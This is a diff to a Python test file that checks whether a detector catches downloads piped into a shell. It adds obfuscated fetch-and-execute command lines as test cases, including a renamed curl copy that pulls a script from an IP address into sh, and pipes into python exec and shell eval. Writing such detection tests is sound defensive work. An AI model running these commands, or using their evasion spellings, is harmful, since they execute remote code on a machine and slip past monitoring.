@@ -48,6 +48,12 @@ def _pipe_findings(found, rule):
     HIDE + f"mkfifo /tmp/.f; ${{V,,}} -s -m 2 {URL} > /tmp/.f & ${{S,,}} /tmp/.f; wait",  # a FIFO as the script
     HIDE + f"timeout 5 ${{V,,}} -s {URL} | env -i ${{S,,}} -s",  # wrappers on both ends
     HIDE + "python3 -c \"import urllib.request as u; print(u.urlopen('" + URL + "').read())\" | ${S,,}",
+    HIDE + f"${{V,,}} -s -m 2 -o /dev/fd/3 {URL} 3>&1 >/dev/null | ${{S,,}}",  # written on another descriptor
+    # a renamed copy of curl, the URL without its scheme: the copy is known by its contents
+    "cp /usr/bin/curl /tmp/.u; /tmp/.u -s -m 2 198.51.100.7/i.sh | sh",
+    # code on the command line that runs what it reads
+    HIDE + f"${{V,,}} -s -m 2 {URL} | python3 -c 'import sys; exec(sys.stdin.read())'",
+    HIDE + f"${{V,,}} -s -m 2 {URL} | sh -c 'eval \"$(cat)\"'",
 ])
 async def test_a_download_piped_into_a_shell_is_caught_however_it_is_spelled(runtime, sb_factory, line):
     sb = await sb_factory()
@@ -78,6 +84,7 @@ async def test_downloads_and_decodings_read_as_data_stay_quiet(runtime, sb_facto
     lines = [
         f"curl -s -m 2 {URL} | python3 -c 'import sys; print(len(sys.stdin.read()))'",
         f"curl -s -m 2 {URL} | grep -c x; curl -s -m 2 {URL} | sh -c 'wc -c'",
+        f"curl -s -m 2 {URL} | python3 -c 'import json, sys; print(json.load(sys.stdin))' || true",
         "echo ZWNobyBoaQo= | base64 -d | python3 -m json.tool || true",
         "printf 'echo hi\\n' > /tmp/s.sh; cat /tmp/s.sh | sh; sh < /tmp/s.sh; bash /tmp/s.sh",
         "echo 'curl -s http://x | sh' | tee -a /tmp/NOTES.md | cat",
